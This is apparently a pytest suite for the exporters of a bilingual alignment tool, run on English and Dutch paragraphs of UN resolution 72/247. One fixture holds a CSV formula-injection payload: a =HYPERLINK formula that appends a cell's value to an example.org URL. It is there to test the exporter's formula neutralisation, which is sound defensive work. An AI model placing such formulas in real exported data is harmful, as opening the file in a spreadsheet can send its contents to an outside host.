"""CSV/TSV/JSONL/TMX export of hand-made alignments of real 72/247 paragraphs (English and machine-translated Dutch)."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from align.errors import InputError
from align.exporters import tabular
from align.exporters.tabular import columns, export, neutralise, write_rows
from align.model import Alignment, Section, Unit

CORPUS = Path(__file__).parent.parent / "corpus" / "a-res-72-247.en+nl-mt.md"
LINES = CORPUS.read_text(encoding="utf-8").split("\n")


def paragraph(start: str) -> str:
    """The corpus line that starts with ``start``, markdown emphasis removed."""
    return next(line for line in LINES if line.startswith(start)).replace("*", "")


SIGNATURE = {"tool": "align 0.1.0", "model": "multilingual-e5-small", "thresholds": {"low": 0.55}, "pivot": "en"}

# Texts a spreadsheet would run as formulas, and real text that merely looks like one.
HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Open the report")'
BASED = "-based approach to the protection of human rights defenders,"


def unit(uid: str, section: Section, number: str | None, en: str, nl: str, **fields: object) -> Unit:
    values: dict[str, object] = {"link": "1-1", "similarity": 0.8765432, "confidence": 0.9, "flags": []}
    values.update(fields)
    return Unit(
        id=uid,
        section=section,
        number=number,
        paragraphs={"en": [uid] if en else [], "nl": [uid] if nl else []},
        texts={"en": en, "nl": nl},
        **values,  # type: ignore[arg-type]
    )


@pytest.fixture
def alignment() -> Alignment:
    units = [
        unit("title", Section.TITLE, None, paragraph("72/247. Twentieth"), paragraph("Twintigste verjaardag")),
        unit("pp1", Section.PREAMBLE, None, paragraph("Guided by the purposes"), paragraph("Geleid door de doelen")),
        unit(
            "pp16+pp17",
            Section.PREAMBLE,
            None,
            paragraph("Gravely concerned that national") + "\n" + paragraph("Recognizing the pressing importance"),
            paragraph("Zeer bezorgd over de wetgeving"),
            link="2-1",
            similarity=0.81234567,
            confidence=0.7,
            flags=["merged", "low-confidence"],
        ),
        unit("op4", Section.OPERATIVE, "4", paragraph("4. *Urges* States")[3:], paragraph("Dringt er bij de staten")),
        unit(
            "fn6", Section.FOOTNOTE, "6", "", paragraph("6 De term")[2:], link="0-1", similarity=None, flags=["added"]
        ),
        unit("op13", Section.OPERATIVE, "13", HYPERLINK, BASED, similarity=-0.1234, confidence=0.05),
    ]
    return Alignment(languages=["en", "nl"], pivot="en", units=units, documents={}, signature=SIGNATURE)


def rendered(alignment: Alignment, fmt: str) -> str:
    stream = io.StringIO(newline="")
    write_rows(alignment, stream, fmt)
    return stream.getvalue()


# --------------------------------------------------------------------------- CSV


def test_csv_opens_in_the_csv_module_and_round_trips_the_texts(alignment: Alignment, tmp_path: Path) -> None:
    export(alignment, tmp_path / "72-247.csv")
    data = (tmp_path / "72-247.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "72-247.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == ["unit", "section", "number", "en", "nl", "link", "similarity", "confidence", "flags"]
    assert len(rows) == len(alignment.units)
    for row, expected in zip(rows[:5], alignment.units[:5], strict=True):
        assert (row["unit"], row["section"], row["number"]) == (
            expected.id,
            expected.section.value,
            expected.number or "",
        )
        assert row["en"] == expected.texts["en"] and row["nl"] == expected.texts["nl"]
    merged = rows[2]
    assert "\n" in merged["en"] and "," in merged["nl"]  # a line break and commas survive quoting
    assert '"mensenrechtenverdedigers"' in rows[4]["nl"]  # so do the footnote's double quotes
    assert (merged["link"], merged["similarity"], merged["confidence"], merged["flags"]) == (
        "2-1",
        "0.8123",
        "0.7",
        "merged;low-confidence",
    )
    assert rows[4]["similarity"] == "" and rows[4]["en"] == ""


def test_csv_neutralises_formulas_but_not_numbers(alignment: Alignment) -> None:
    text = rendered(alignment, "csv")
    row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[-1]
    assert row[3] == "'" + HYPERLINK
    assert row[4] == "'" + BASED  # legitimate text is neutralised too: the price of safety
    assert row[6] == "-0.1234"  # a negative similarity is a number, not a formula


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_every_trigger(trigger: str) -> None:
    assert neutralise(trigger + "SUM(A1:A9)") == "'" + trigger + "SUM(A1:A9)"


@pytest.mark.parametrize("text", ["Guided by the purposes", "72/247", "1-1", "", "'quoted", " =not at the start"])
def test_neutralise_leaves_ordinary_text(text: str) -> None:
    assert neutralise(text) == text


# --------------------------------------------------------------------------- TSV


def test_tsv_has_one_line_per_unit(alignment: Alignment) -> None:
    text = rendered(alignment, "tsv")
    assert not text.startswith("\ufeff")
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) - 1 == len(alignment.units) + 1
    assert lines[0].split("\t") == columns(alignment)
    rows = [line.split("\t") for line in lines[1:-1]]
    assert all(len(row) == len(columns(alignment)) for row in rows)
    assert rows[2][3] == alignment.units[2].texts["en"].replace("\n", " ")
    assert rows[4][4] == alignment.units[4].texts["nl"]  # quotes stay as they are: TSV has no quoting
    assert rows[5][3:5] == ["'" + HYPERLINK, "'" + BASED] and rows[5][6] == "-0.1234"


def test_tsv_cell_that_starts_with_a_tab_becomes_text(alignment: Alignment) -> None:
    alignment.units[1].texts["nl"] = "\t=1+1"
    row = rendered(alignment, "tsv").split("\n")[2].split("\t")
    assert row[4] == " =1+1"  # the tab became a space, and a leading space is not a formula


# --------------------------------------------------------------------------- JSONL


def test_jsonl_header_then_units(alignment: Alignment) -> None:
    records = [json.loads(line) for line in rendered(alignment, "jsonl").splitlines()]
    assert records[0] == {"type": "signature", **SIGNATURE}
    assert len(records) == len(alignment.units) + 1
    merged = records[3]
    assert merged["unit"] == "pp16+pp17" and merged["section"] == "preamble" and merged["link"] == "2-1"
    assert merged["texts"] == alignment.units[2].texts
    assert merged["paragraphs"] == {"en": ["pp16+pp17"], "nl": ["pp16+pp17"]}
    assert (merged["similarity"], merged["confidence"], merged["flags"]) == (0.8123, 0.7, ["merged", "low-confidence"])
    assert records[5]["similarity"] is None and records[5]["number"] == "6"
    assert records[6]["texts"] == {"en": HYPERLINK, "nl": BASED}  # not a spreadsheet format: texts untouched


# --------------------------------------------------------------------------- files, sidecar, stdout


@pytest.mark.parametrize("name, fmt", [("out.csv", "csv"), ("out.TSV", "tsv"), ("out.tab", "tsv")])
def test_sidecar_beside_csv_and_tsv(alignment: Alignment, tmp_path: Path, name: str, fmt: str) -> None:
    export(alignment, tmp_path / name)
    assert (tmp_path / name).read_bytes() == rendered(alignment, fmt).encode("utf-8")
    assert json.loads((tmp_path / f"{name}.meta.json").read_text(encoding="utf-8")) == SIGNATURE


def test_a_sidecar_that_cannot_be_written_leaves_no_file_without_its_signature(alignment: Alignment, tmp_path: Path) -> None:
    (tmp_path / "pairs.csv.meta.json").mkdir()
    with pytest.raises(InputError, match="pairs.csv.meta.json: is a folder"):
        export(alignment, tmp_path / "pairs.csv")
    assert not (tmp_path / "pairs.csv").exists()


def test_jsonl_file_has_no_sidecar(alignment: Alignment, tmp_path: Path) -> None:
    export(alignment, tmp_path / "out.jsonl")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.jsonl"]


def test_format_argument_beats_suffix(alignment: Alignment, tmp_path: Path) -> None:
    export(alignment, tmp_path / "out.txt", "JSONL")
    assert json.loads((tmp_path / "out.txt").read_text(encoding="utf-8").split("\n")[0])["type"] == "signature"


def test_stdout_without_sidecar(
    alignment: Alignment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    monkeypatch.chdir(tmp_path)
    export(alignment, None, "csv")
    assert capsysbinary.readouterr().out == rendered(alignment, "csv").encode("utf-8")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "path, fmt", [("out.xlsx", None), ("out", None), (None, None), ("out.csv", "xls"), (None, "json")]
)
def test_unknown_format_lists_the_valid_ones(
    alignment: Alignment, tmp_path: Path, path: str | None, fmt: str | None
) -> None:
    with pytest.raises(InputError, match="csv, tsv, jsonl"):
        export(alignment, tmp_path / path if path else None, fmt)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- TMX


def test_tmx_holds_each_unit_of_two_languages_with_what_the_aligner_said(alignment: Alignment, tmp_path: Path) -> None:
    """CAT tools import TMX: one <tu> per unit with text in both languages, named by the
    resolution's symbol as a memory names it, the aligner's flags and the model as properties.
    fn6 is Dutch only: no translation, left out, and not counted as written. A text that opens
    like a formula is left as it is: a TMX file is not read by spreadsheets."""
    from lxml import etree

    import align
    from align.exporters.tmx import check_tmx

    en, nl = align.read_versions([CORPUS])
    alignment.documents = {"en": en, "nl": nl}
    written = export(alignment, tmp_path / "pairs.tmx")
    assert written == 5 and check_tmx(tmp_path / "pairs.tmx").units == 5
    root = etree.parse(str(tmp_path / "pairs.tmx")).getroot()
    assert [tu.get("tuid") for tu in root.iter("tu")] == [f"A/RES/72/247#{u}" for u in ("title", "pp1", "pp16+pp17", "op4", "op13")]
    props = {tu.get("tuid"): {p.get("type"): p.text for p in tu.iter("prop")} for tu in root.iter("tu")}
    assert props["A/RES/72/247#pp16+pp17"]["x-flags"] == "merged;low-confidence"
    assert "x-flags" not in props["A/RES/72/247#pp1"]
    assert root.find("header/prop[@type='x-model']").text == SIGNATURE["model"]
    assert root.findtext(".//tu[@tuid='A/RES/72/247#op13']/tuv/seg") == HYPERLINK
    assert sorted(path.name for path in tmp_path.iterdir()) == ["pairs.tmx"]  # no sidecar: the header says it


def test_tmx_of_an_alignment_without_documents_names_units_by_their_ids(alignment: Alignment, tmp_path: Path) -> None:
    """An alignment made by hand (or of an aligned corpus) has no documents to name its resolution
    by: its units are named by their ids. Lines are blocks, not paragraphs."""
    from lxml import etree

    alignment.signature = {**SIGNATURE, "segments": "lines"}
    assert export(alignment, tmp_path / "pairs.tmx") == 5
    root = etree.parse(str(tmp_path / "pairs.tmx")).getroot()
    assert [tu.get("tuid") for tu in root.iter("tu")] == ["title", "pp1", "pp16+pp17", "op4", "op13"]
    assert root.find(".//prop[@type='x-symbol']") is None
    assert root.find("header").get("segtype") == "block"


def test_tmx_into_a_pipe_is_refused_before_the_model_runs(tmp_path: Path) -> None:
    """The TMX file is read back once written: a pipe cannot be, and that is said before minutes of embedding."""
    import subprocess
    import sys

    os.mkfifo(tmp_path / "pairs.tmx")
    argv = [sys.executable, "-m", "align", "export", str(CORPUS), "-o", str(tmp_path / "pairs.tmx"), "--model", str(tmp_path / "no-model")]
    result = subprocess.run(argv, capture_output=True, text=True)
    assert result.returncode == 2 and "is a device or a pipe" in result.stderr and "no-model" not in result.stderr, result.stderr


def test_tmx_is_never_written_to_stdout(alignment: Alignment) -> None:
    with pytest.raises(InputError, match="checked once written"):
        export(alignment, None, "tmx")


def test_missing_output_folder(alignment: Alignment, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="does not exist"):
        export(alignment, tmp_path / "no-such-folder" / "out.csv")


def test_failed_export_keeps_the_old_file(
    alignment: Alignment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out.tsv"
    target.write_text("the previous export\n", encoding="utf-8")

    def half_written(alignment: Alignment, stream: io.TextIOBase, fmt: str) -> None:
        stream.write("unit\tsection\n")
        raise RuntimeError("interrupted")

    monkeypatch.setattr(tabular, "write_rows", half_written)
    with pytest.raises(RuntimeError):
        export(alignment, target)
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.tsv"]


def test_a_folder_is_refused(alignment: Alignment, tmp_path: Path) -> None:
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(InputError, match="is a folder"):
        export(alignment, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").is_dir()


def test_a_link_is_written_through_and_stays_a_link(alignment: Alignment, tmp_path: Path) -> None:
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old\n", encoding="utf-8")
    link.symlink_to(real)
    export(alignment, link)
    assert link.is_symlink() and real.read_text(encoding="utf-8-sig").startswith("unit,section")
    assert (tmp_path / "link.csv.meta.json").is_file()  # named as the user named the output


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes")
def test_a_pipe_is_written_into_not_replaced_and_gets_no_sidecar(alignment: Alignment, tmp_path: Path) -> None:
    """As `-o /dev/null` is: a rename would put a file in place of the device (never test
    on /dev/null itself: a regression would replace it for the whole machine)."""
    pipe = tmp_path / "out.csv"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)  # a reader first, so that the export's open returns
    try:
        export(alignment, pipe)
        received = os.read(reader, 1 << 16).decode("utf-8-sig")
    finally:
        os.close(reader)
    assert pipe.is_fifo() and received.startswith("unit,section")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_name_the_file_system_refuses_is_one_error(alignment: Alignment, tmp_path: Path) -> None:
    """The temporary file's name is short, so a long legal name works; a name past the
    limit is an InputError, not an OSError traceback."""
    export(alignment, tmp_path / ("r" * 240 + ".jsonl"))
    with pytest.raises(InputError, match="cannot be written"):
        export(alignment, tmp_path / ("r" * 260 + ".jsonl"))


def test_a_loop_of_links_is_one_error(alignment: Alignment, tmp_path: Path) -> None:
    (tmp_path / "a.csv").symlink_to(tmp_path / "b.csv")
    (tmp_path / "b.csv").symlink_to(tmp_path / "a.csv")
    with pytest.raises(InputError, match="cannot be written"):
        export(alignment, tmp_path / "a.csv")


def test_what_is_written_into_is_what_names_an_open_file_or_is_no_file(tmp_path: Path) -> None:
    """Never decided by the spelling alone: a file under /dev/shm is a file like any other."""
    from align.exporters.tabular import written_into

    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "l1").symlink_to("/dev/stdout")
    (tmp_path / "l2").symlink_to(tmp_path / "l1")
    (tmp_path / "file.csv").write_text("x\n", encoding="utf-8")
    assert written_into(Path("/dev/stdout")) and written_into(Path("/proc/self/fd/1"))
    assert written_into(tmp_path / "fifo") and written_into(tmp_path / "l2")  # a chain of links to stdout
    assert not written_into(tmp_path / "file.csv") and not written_into(Path("/dev/shm/pairs.csv"))


@pytest.mark.parametrize(("before", "after"), [(0o600, 0o600), (0o640, 0o640), (0o4755, 0o755)])
def test_a_replaced_file_keeps_its_permission_bits_but_never_setuid(
    alignment: Alignment, tmp_path: Path, before: int, after: int
) -> None:
    kept = tmp_path / "kept.csv"
    kept.write_text("old\n", encoding="utf-8")
    kept.chmod(before)
    export(alignment, kept)
    assert kept.stat().st_mode & 0o7777 == after and kept.read_text(encoding="utf-8-sig").startswith("unit,")
